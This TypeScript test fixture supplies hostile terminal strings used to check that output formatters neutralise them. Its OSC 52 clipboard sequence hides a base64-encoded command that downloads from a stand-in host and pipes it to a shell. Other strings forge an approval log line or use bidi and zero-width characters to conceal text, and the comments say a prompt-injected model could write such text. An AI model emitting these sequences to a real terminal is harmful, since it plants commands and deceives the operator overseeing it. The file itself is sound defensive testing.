/**
 * Text a prompt-injected model, a server or a file could write to drive an operator's terminal or
 * forge a line of output: OSC 52 (clipboard), OSC 0 (window title), CSI, CR, a forged log line,
 * bidi overrides and zero-width characters. Used to test every formatter that prints for a person.
 */

export const OSC_CLIPBOARD = '\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5pbnZhbGlkIHwgc2g=\u0007';
export const OSC_TITLE = '\u001b]0;title\u0007';
export const FORGED_LINE = '\n12:00:02 root (lead) approval a9 approved by root (cli)';

/** One string with every kind of hostile character. */
export const HOSTILE = `ok${OSC_CLIPBOARD}${OSC_TITLE}\u001b[2J\u009b31m${FORGED_LINE}\rover\u202eevil\u2066x\u2069\u200b\u2028\ufeff\u007f`;

/**
 * Any raw character a terminal acts on or that reorders or hides text (line feed excluded: the
 * callers check the line count themselves).
 */
export const RAW_CONTROL =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;
